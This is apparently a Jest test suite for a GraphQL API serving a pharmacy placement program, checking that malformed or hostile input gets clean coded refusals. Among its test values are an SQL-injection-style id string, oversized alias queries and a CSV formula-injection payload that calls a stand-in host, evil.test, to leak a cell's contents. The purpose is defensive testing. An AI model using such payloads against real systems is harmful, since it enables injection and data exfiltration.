import { strFromU8, unzipSync } from 'fflate';
import { Client, codeOf, Harness } from './harness';

/* The bad-input cases a tester found answering INTERNAL_SERVER_ERROR, each now a coded refusal that
 * changes nothing (docs/security.md). The fuzz suite generates many more of the same kinds. */
describe('bad input: coded refusals, never an internal error', () => {
  let h: Harness;
  let admin: Client;
  let programId: string;
  let cohortId: string;
  let siteId: string;
  let studentId: string;

  const refused = (r: { errors?: { extensions?: { code?: string } }[] }, status = 400, code = 'BAD_USER_INPUT') => {
    expect(codeOf(r as never)).toBe(code);
    return status;
  };

  beforeAll(async () => {
    h = await Harness.start();
    const a = await h.user('ADMIN');
    programId = await h.program(a.id);
    cohortId = await h.cohort(programId);
    admin = await h.signedIn(a.email);
    ({ studentId } = await h.student(admin, cohortId));
    const site = await admin.gql(
      `mutation($input: CreateSiteInput!) { createSite(input: $input) { id } }`,
      { input: { programId, name: 'Bad Input Pharmacy', address: '1 Main St', setting: 'COMMUNITY', capacity: 3, agreementStartDate: '2026-01-01', agreementEndDate: '2027-12-31' } },
    );
    siteId = site.data!.createSite.id;
  });
  afterAll(() => h.stop());

  it('refuses explicit nulls for required fields of an update, naming the field and keeping the record', async () => {
    const cohort = await admin.gql(`mutation($input: UpdateCohortInput!) { updateCohort(input: $input) { name } }`, { input: { id: cohortId, name: null } });
    refused(cohort);
    expect(cohort.errors![0].message).toMatch(/name/);
    const site = await admin.gql(`mutation($input: UpdateSiteInput!) { updateSite(input: $input) { address } }`, { input: { id: siteId, address: null } });
    refused(site);
    expect(site.errors![0].message).toMatch(/address/);
    expect(await h.count('cohorts', `id = $1 AND name = 'Test cohort'`, [cohortId])).toBe(1);
    expect(await h.count('sites', `id = $1 AND address = '1 Main St'`, [siteId])).toBe(1);
    // A nullable field may be cleared with null.
    const phone = await admin.gql(`mutation($input: UpdateStudentInput!) { updateStudent(input: $input) { phone } }`, { input: { id: studentId, phone: null } });
    expect(phone.errors).toBeUndefined();
  });

  it('refuses NUL characters in text, in variables and in the query itself, with the path of the value', async () => {
    const before = await h.count('students');
    const enroll = await admin.gql(`mutation($input: EnrollStudentInput!) { enrollStudent(input: $input) { id } }`, {
      input: { cohortId, enrolledOn: '2026-01-05', firstName: 'Nul\u0000l', lastName: 'Byte', email: 'nul@test.ptp', studentNumber: 'NUL-1' },
    });
    refused(enroll);
    expect(enroll.errors![0].message).toBe('input.firstName: must not contain the NUL character (\\u0000)');
    expect(admin.lastResponse!.status).toBe(400);
    const literal = await admin.gql(`{ students(filter: { search: "a\\u0000b" }) { totalCount } }`);
    refused(literal);
    expect(literal.errors![0].message).toMatch(/filter\.search: must not contain the NUL character/);
    expect(await h.count('students')).toBe(before);
  });

  it('refuses ids that are not ids and forged page cursors', async () => {
    const id = await admin.gql(`query($id: ID!) { cohort(id: $id) { id } }`, { id: "'; select 1 --" });
    refused(id);
    expect(id.errors![0].message).toMatch(/^id: "'; select 1 --" is not a valid id/);
    const forged = Buffer.from(JSON.stringify([{}, '00000000-0000-4000-8000-000000000000'])).toString('base64url');
    const wrongType = Buffer.from(JSON.stringify(['not a date', '00000000-0000-4000-8000-000000000000'])).toString('base64url');
    for (const after of [forged, wrongType]) {
      const r = await admin.gql(`query($after: String) { hourEntries(first: 5, after: $after) { totalCount } }`, { after });
      refused(r);
      expect(r.errors![0].message).toMatch(/page cursor is not valid/);
    }
  });

  it('refuses dates outside 1950–2100 with a message naming the field', async () => {
    const { id: userId } = await h.user('PRECEPTOR');
    for (const licenseExpiresOn of ['1900-01-01', '9999-12-31']) {
      const r = await admin.gql(`mutation($input: AddPreceptorInput!) { addPreceptor(input: $input) { id } }`, {
        input: { siteId, userId, licenseNumber: 'RPH-1', licenseExpiresOn },
      });
      refused(r);
      expect(r.errors![0].message).toMatch(/licenseExpiresOn must lie between 1950-01-01 and 2100-12-31/);
    }
    const hours = await admin.gql(`query($e: ID!) { enrollment(id: $e) { id } }`, { e: '00000000-0000-4000-8000-000000000000' });
    expect(codeOf(hours)).toBe('NOT_FOUND');
    const ts = await admin.gql(`mutation($input: LogHoursInput!) { logHours(input: $input) { id } }`, {
      input: { enrollmentId: '00000000-0000-4000-8000-000000000000', component: 'SIMULATED', startedAt: '1900-01-01T10:00:00Z', endedAt: '1900-01-01T12:00:00Z', activityNote: 'lab' },
    });
    refused(ts);
    expect(ts.errors![0].message).toMatch(/input\.startedAt: must lie between 1950 and 2100/);
    expect(await h.count('preceptors', 'user_id = $1', [userId])).toBe(0);
  });

  it('refuses hours before the student’s enrollment, on both paths of logHours', async () => {
    const { enrollmentId } = await h.student(admin, cohortId, { enrolledOn: '2026-03-02' });
    const r = await admin.gql(`mutation($input: LogHoursInput!) { logHours(input: $input) { id } }`, {
      input: { enrollmentId, component: 'SIMULATED', startedAt: '2026-02-27T14:00:00Z', endedAt: '2026-02-27T16:00:00Z', activityNote: 'lab practice' },
    });
    refused(r);
    expect(r.errors![0].message).toMatch(/before the student’s enrollment on Mar 2, 2026/);
    const ok = await admin.gql(`mutation($input: LogHoursInput!) { logHours(input: $input) { id } }`, {
      input: { enrollmentId, component: 'SIMULATED', startedAt: '2026-03-03T14:00:00Z', endedAt: '2026-03-03T16:00:00Z', activityNote: 'lab practice' },
    });
    expect(ok.errors).toBeUndefined();
  });

  it('answers a duplicate compliance item code with CONFLICT', async () => {
    const save = (code: string) =>
      admin.gql(`mutation($input: SaveComplianceItemInput!) { saveComplianceItem(input: $input) { id } }`, {
        input: { programId, code, name: `Item ${code}`, validity: 'ONE_TIME' },
      });
    expect((await save('DUP_1')).errors).toBeUndefined();
    const dup = await save('DUP_1');
    expect(codeOf(dup)).toBe('CONFLICT');
    expect(dup.errors![0].message).toMatch(/code: another compliance item of this program already uses this code/);
  });

  it('refuses a fragment cycle, 5,000 aliases and 300 aliased reports before running anything', async () => {
    const cycle = await admin.gql(`query { me { ...A } } fragment A on User { id ...B } fragment B on User { email ...A }`);
    expect(codeOf(cycle)).toBe('GRAPHQL_VALIDATION_FAILED');
    expect(cycle.errors!.map((e) => e.message).join(' ')).toMatch(/Cannot spread fragment "A" within itself/);
    const aliases = await admin.gql(`{ ${Array.from({ length: 5000 }, (_, i) => `m${i}: me { id }`).join(' ')} }`);
    expect(codeOf(aliases)).toBe('GRAPHQL_VALIDATION_FAILED');
    expect(aliases.errors![0].message).toMatch(/selects more than 1000 fields/);
    const reports = await admin.gql(
      `query($input: ReportInput!) { ${Array.from({ length: 300 }, (_, i) => `r${i}: outcomeReport(input: $input) { generatedAt }`).join(' ')} }`,
      { input: { programId, periodStart: '2026-01-01', periodEnd: '2026-12-31' } },
    );
    refused(reports);
    expect(reports.errors![0].message).toMatch(/too complex/);
    expect(admin.lastResponse!.status).toBe(400);
    // One report is allowed.
    const one = await admin.gql(`query($input: ReportInput!) { outcomeReport(input: $input) { generatedAt } }`, { input: { programId, periodStart: '2026-01-01', periodEnd: '2026-12-31' } });
    expect(one.errors).toBeUndefined();
  });

  it('writes a name that looks like a formula as text in every CSV export', async () => {
    const formula = '=HYPERLINK("http://evil.test/?x="&A2,"Open")';
    await h.student(admin, cohortId, { firstName: formula, lastName: 'Evil' });
    const base = h.url.replace(/\/graphql$/, '');
    const get = (path: string) => fetch(`${base}${path}`, { headers: { cookie: admin.cookie! } });
    const report = await get(`/api/reports/export?format=csv&programId=${programId}&periodStart=2026-01-01&periodEnd=2026-12-31`);
    expect(report.status).toBe(200);
    const students = strFromU8(unzipSync(new Uint8Array(await report.arrayBuffer()))['students.csv']);
    expect(students).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A2,""Open"") Evil"`);
    expect(students).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const roster = await get(`/api/cohorts/${cohortId}/roster.csv`);
    expect(roster.status).toBe(200);
    expect(await roster.text()).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('refuses numbers with too many decimals instead of failing on them', async () => {
    const r = await admin.gql(`mutation($input: UpdateProgramInput!) { updateProgram(input: $input) { id } }`, {
      input: { id: programId, requirements: [{ component: 'EXPERIENTIAL', minHours: 5e-324 }] },
    });
    refused(r);
    expect(r.errors![0].message).toMatch(/minHours must be a number with at most 2 decimals/);
  });
});

describe('bad input in production: no schema details in errors', () => {
  let h: Harness;
  const saved = process.env.NODE_ENV;

  beforeAll(async () => {
    process.env.NODE_ENV = 'production';
    try {
      h = await Harness.start();
    } finally {
      process.env.NODE_ENV = saved;
    }
  });
  afterAll(() => h.stop());

  it('answers a misspelt field without "Did you mean", and refuses introspection', async () => {
    const c = h.client();
    const typo = await c.gql(`{ mee { id } }`);
    expect(codeOf(typo)).toBe('GRAPHQL_VALIDATION_FAILED');
    expect(typo.errors![0].message).not.toMatch(/Did you mean/);
    const intro = await c.gql(`{ __schema { types { name } } }`);
    expect(intro.errors?.[0].message).toMatch(/introspection/i);
  });
});
